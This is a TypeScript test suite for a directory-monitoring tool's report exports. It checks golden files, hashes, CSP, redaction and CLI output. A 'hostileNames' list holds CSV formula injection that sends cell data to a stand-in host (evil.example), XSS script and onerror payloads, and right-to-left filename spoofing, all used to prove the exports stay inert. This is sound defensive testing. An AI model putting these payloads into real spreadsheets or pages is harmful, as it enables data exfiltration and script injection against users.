import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { ReportRecord } from '../../shared/contract';
import { startCatalogWorld, type CatalogWorld } from '../../electron/emulators/scenarios/catalog';
import { addAssignedGroup, addAssignedUser } from '../../electron/emulators/scenarios/world-steps';
import { connectScimWatch } from '../../electron/emulators/scimwatch-connection';
import { escapeHtml } from '../../electron/core/reports/writers/html-template';
import { runCliAsync } from '../helpers/cli';
import { goldenFolder, goldenReports, pdfPages, pdfText } from '../helpers/report-goldens';
import { findLeaks, type Artifact } from '../helpers/secret-scan';
import { makeTempDir } from '../helpers/temp-dir';
import { watchWorld, type WatchedWorld } from '../helpers/watched-world';

const sha256 = (bytes: Buffer | string) => createHash('sha256').update(bytes).digest('hex');
const schema = JSON.parse(readFileSync('resources/report.schema.json', 'utf8')) as object;
const ajv = new Ajv2020({ allErrors: true, strict: true });
addFormats(ajv);
const validateReport = ajv.compile(schema);

/** A JSON report: valid against the published schema, and its integrity hash holds. */
function checkJson(bytes: Buffer): Record<string, unknown> {
  const text = bytes.toString('utf8');
  const report = JSON.parse(text) as Record<string, unknown> & { integrity: { sha256: string } };
  expect(validateReport(report), JSON.stringify(validateReport.errors)).toBe(true);
  expect(sha256(text.slice(0, text.lastIndexOf(',\n"integrity":')))).toBe(report.integrity.sha256);
  return report;
}

/** The document's CSP as a browser reads the attribute (entities decoded). */
const cspOf = (html: string) =>
  /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\s*\/?>/
    .exec(html)?.[1]
    ?.replace(/&#39;/g, "'");

describe('reports: goldens of the fixed scenario', () => {
  const dir = makeTempDir();
  let files: Record<string, Buffer>;
  beforeAll(async () => {
    files = await goldenReports(dir.path);
  });
  afterAll(() => dir.remove());

  it('writes CSV, JSON and HTML byte for byte as the reviewed goldens, plain and redacted', () => {
    expect(Object.keys(files).length).toBeGreaterThanOrEqual(22);
    for (const [name, bytes] of Object.entries(files)) {
      const golden = join(goldenFolder, name);
      expect(existsSync(golden), `${golden} is missing; see test/fixtures/make-report-goldens.ts`).toBe(true);
      expect(bytes.toString('utf8'), name).toBe(readFileSync(golden, 'utf8'));
    }
  });

  it('prints the PDF from the same HTML: a few pages, the organization named on the first', () => {
    const pdf = join(dir.path, 'report.pdf');
    expect(readFileSync(pdf).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const pages = pdfPages(pdf);
    expect(pages).toBeGreaterThanOrEqual(2);
    expect(pages).toBeLessThanOrEqual(12);
    expect(pdfText(pdf, { first: 1, last: 1 })).toContain('Pulumi organization contoso');
  });

  it('vouches for itself: the JSON validates and hashes, the zip lists every file hash, the HTML its sections', () => {
    for (const name of ['report.json', 'report-redacted.json']) checkJson(files[name] as Buffer);
    const integrity = parse<{ file: string; sha256: string }>(files['csv/integrity.csv'] as Buffer, {
      bom: true,
      columns: true,
    });
    expect(integrity.map((row) => row.file).sort()).toEqual(
      Object.keys(files)
        .filter((n) => n.startsWith('csv/') && n !== 'csv/integrity.csv')
        .map((n) => n.slice(4))
        .sort(),
    );
    for (const row of integrity)
      expect(sha256(files[`csv/${row.file}`] as Buffer), row.file).toBe(row.sha256);
    const html = (files['report.html'] as Buffer).toString('utf8');
    const body = html.slice(html.indexOf('<main>') + 6, html.lastIndexOf('</main>'));
    expect(html).toContain(sha256(body));
    const style = html.slice(html.indexOf('<style>') + 7, html.indexOf('</style>'));
    expect(cspOf(html)).toBe(
      `default-src 'none'; style-src 'sha256-${createHash('sha256').update(style).digest('base64')}'; img-src data:`,
    );
  });
});

/** Names a directory can hold, each of which would break a naive export. */
const hostileNames = [
  '=HYPERLINK("https://evil.example/?q="&A1,"click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\tTabbed',
  '<script>alert("x")</script><img src=x onerror=alert(1)>',
  'Quote "double" and \'single\', commas, and\nnew lines\r\nhere',
  '\u202Eevil.exe\u202C مرحبا עברית',
  'Emoji 👩🏽‍💻🚀 &amp; &lt;b&gt;',
  `Long ${'x'.repeat(10_000)}`,
];

describe('reports: a hostile directory stays inert, and redaction hides it', () => {
  const dir = makeTempDir();
  let world: CatalogWorld;
  let watched: WatchedWorld;
  const planted: { id: string; upn: string; name: string }[] = [];
  const reports = new Map<string, { record: ReportRecord; bytes: Buffer; path: string }>();

  const create = async (format: 'csv' | 'json' | 'html' | 'pdf', redact: boolean) => {
    const record = await watched.core.call('report.create', { format, includeResolved: true, redact });
    const path = join(dir.path, 'reports', 'default', record.fileName ?? '');
    const bytes = readFileSync(path);
    expect(sha256(bytes)).toBe(record.sha256);
    expect(readFileSync(`${path}.sha256`, 'utf8')).toBe(`${record.sha256}  ${record.fileName}\n`);
    reports.set(`${format}${redact ? '-redacted' : ''}`, { record, bytes, path });
  };

  beforeAll(async () => {
    world = await startCatalogWorld();
    hostileNames.forEach((name, i) => {
      const upn = `hostile${i}@contoso.test`;
      // No mail: each is an open finding (missing email) carrying the name as its subject.
      planted.push({ id: addAssignedUser(world, upn, { mail: null, displayName: name }), upn, name });
    });
    const member = addAssignedUser(world, 'member@contoso.test', { displayName: hostileNames[0] });
    const group = addAssignedGroup(world, hostileNames[5] ?? 'group', [member]);
    planted.push({ id: member, upn: 'member@contoso.test', name: hostileNames[0] ?? '' });
    planted.push({ id: group, upn: '', name: hostileNames[5] ?? '' });
    await world.engine.runCycle();
    // Joins after the cycle: a membership exception naming a hostile member in a hostile team.
    const late = addAssignedUser(world, 'late@contoso.test', { displayName: hostileNames[6] });
    await world.engine.runCycle();
    world.graph.tenant.addMember(group, late);
    planted.push({ id: late, upn: 'late@contoso.test', name: hostileNames[6] ?? '' });
    watched = await watchWorld(world, dir.path);
    await watched.sync();
    for (const redact of [false, true])
      for (const format of ['csv', 'json', 'html', 'pdf'] as const) await create(format, redact);
  }, 60_000);
  afterAll(async () => {
    await watched?.core.close();
    await world?.close();
    dir.remove();
  });

  it('keeps every hostile name as data in CSV: one row per record, no formula, numbers still numbers', () => {
    const zip = unzipSync(reports.get('csv')?.bytes ?? Buffer.alloc(0));
    const findings = parse(Buffer.from(zip['findings.csv'] ?? []), { bom: true, relax_column_count: false });
    const [columns, ...rows] = findings;
    for (const row of rows) expect(row).toHaveLength(columns?.length ?? 0);
    const subjects = rows.map((row) => row[columns?.indexOf('subject') ?? 0] ?? '');
    for (const name of hostileNames) {
      const neutral = /^[=+\-@\t\r]/.test(name) ? `'${name}` : name;
      expect(subjects, name.slice(0, 40)).toContain(neutral);
    }
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
    const summary = parse(Buffer.from(zip['summary.csv'] ?? []), { bom: true });
    expect(summary.find((r) => r[0] === 'findings' && r[1] === 'open')?.[2]).toMatch(/^\d+$/);
    const exceptions = parse<{ team: string; member: string }>(
      Buffer.from(zip['team_exceptions.csv'] ?? []),
      {
        bom: true,
        columns: true,
      },
    );
    expect(exceptions).toContainEqual(
      expect.objectContaining({ member: hostileNames[6], team: hostileNames[5] }),
    );
  });

  it('escapes every value in HTML (no element, no script), prints it as text in the PDF, keeps the JSON exact', () => {
    const html = reports.get('html')?.bytes.toString('utf8') ?? '';
    expect(html).not.toMatch(/<script|<img|<[^>]*\bonerror=|href="javascript:/i);
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('Emoji 👩🏽‍💻🚀 &amp;amp; &amp;lt;b&amp;gt;');
    expect(cspOf(html)).toMatch(/^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; img-src data:$/);
    const printed = pdfText(reports.get('pdf')?.path ?? '');
    expect(printed).toContain('<script>alert("x")</script>');
    const report = checkJson(reports.get('json')?.bytes ?? Buffer.alloc(0)) as {
      findings: { subject: string }[];
    };
    const subjects = report.findings.map((f) => f.subject);
    for (const name of hostileNames) expect(subjects).toContain(name);
  });

  it('leaves none of the planted names, emails, UPNs or ids in any redacted format', () => {
    const secrets: Record<string, string> = {};
    planted.forEach((p, i) => {
      secrets[`id ${i}`] = p.id;
      if (p.upn) secrets[`upn ${i}`] = p.upn;
      // Names are checked as a reader would see them (the long one by its start), and in each
      // format's own escaping: HTML entities, CSV's doubled quotes, JSON's backslashes.
      const name = p.name.slice(0, 60).trim();
      secrets[`name ${i}`] = name;
      secrets[`name ${i} (html)`] = escapeHtml(name);
      secrets[`name ${i} (csv)`] = name.replace(/"/g, '""');
      secrets[`name ${i} (json)`] = JSON.stringify(name).slice(1, -1);
    });
    const artifacts = ['csv-redacted', 'json-redacted', 'html-redacted', 'pdf-redacted'].flatMap(
      (key): Artifact[] => {
        const bytes = reports.get(key)?.bytes ?? Buffer.alloc(0);
        // A PDF's text is compressed in its streams: what a reader (or a search) sees is what poppler reads.
        if (key === 'pdf-redacted') return [{ name: key, content: pdfText(reports.get(key)?.path ?? '') }];
        if (key !== 'csv-redacted') return [{ name: key, content: bytes }];
        return Object.entries(unzipSync(bytes)).map(([name, content]) => ({
          name: `${key}/${name}`,
          content: Buffer.from(content),
        }));
      },
    );
    expect(findLeaks(secrets, artifacts)).toEqual([]);
    // The same person keeps one token: their subject and their id agree in every finding row.
    const report = JSON.parse(reports.get('json-redacted')?.bytes.toString('utf8') ?? '{}') as {
      findings: { kind: string; subject: string; entraId: string | null }[];
    };
    const missingEmail = report.findings.filter((f) => f.kind === 'user.missing_email');
    expect(missingEmail.length).toBeGreaterThanOrEqual(hostileNames.length);
    for (const f of missingEmail) expect(f.entraId).toBe(f.subject);
  });

  it('lists each export with its options and hash, and writes a report from the CLI', async () => {
    const listed = await watched.core.call('report.list', {});
    expect(listed).toHaveLength(8);
    expect(listed.every((r) => r.state === 'done' && /^[0-9a-f]{64}$/.test(r.sha256 ?? ''))).toBe(true);
    const env = { ...connectScimWatch(world).environment, SCIMWATCH_DATA_DIR: dir.path };
    const out = join(dir.path, 'cli-report.json');
    const written = await runCliAsync(
      ['report', '--format', 'json', '--out', out, '--min-severity', 'error'],
      env,
    );
    expect(written.code, written.stderr).toBe(0);
    const report = checkJson(readFileSync(out)) as { findings: { severity: string }[] };
    expect(report.findings.every((f) => f.severity === 'error')).toBe(true);
    expect(readFileSync(`${out}.sha256`, 'utf8')).toContain(sha256(readFileSync(out)));
    const bad = await runCliAsync(['report', '--format', 'docx', '--out', out], env);
    expect(bad.code).toBe(1);
    expect(bad.stderr).toContain('--format');
  });
});

describe('reports: the daily report', () => {
  it('is written once the poller has reconciled after the chosen hour, into the chosen folder', async () => {
    const dir = makeTempDir();
    const folder = join(dir.path, 'daily');
    const world = await startCatalogWorld();
    addAssignedUser(world, 'daily@contoso.test');
    await world.engine.runCycle();
    const watched = await watchWorld(
      world,
      dir.path,
      {
        SCIMWATCH_DAILY_REPORT_FOLDER: folder,
        SCIMWATCH_DAILY_REPORT_FORMAT: 'json',
        SCIMWATCH_DAILY_REPORT_HOUR: '0',
      },
      { poll: true },
    );
    try {
      const deadline = Date.now() + 30_000;
      while (!(existsSync(folder) && readdirSync(folder).length) && Date.now() < deadline)
        await new Promise((resolve) => setTimeout(resolve, 100));
      const [file, ...others] = readdirSync(folder);
      expect(others).toEqual([]);
      expect(file).toMatch(/^scimwatch-daily-.+-\d{4}-\d{2}-\d{2}\.json$/);
      const report = checkJson(readFileSync(join(folder, file ?? ''))) as { header: { run: { id: number } } };
      const [record] = await watched.core.call('report.list', {});
      expect(record).toMatchObject({
        createdBy: 'daily schedule',
        state: 'done',
        runId: report.header.run.id,
      });
      expect(record?.sha256).toBe(sha256(readFileSync(join(folder, file ?? ''))));
    } finally {
      await watched.core.close();
      await world.close();
      dir.remove();
    }
  }, 60_000);
});
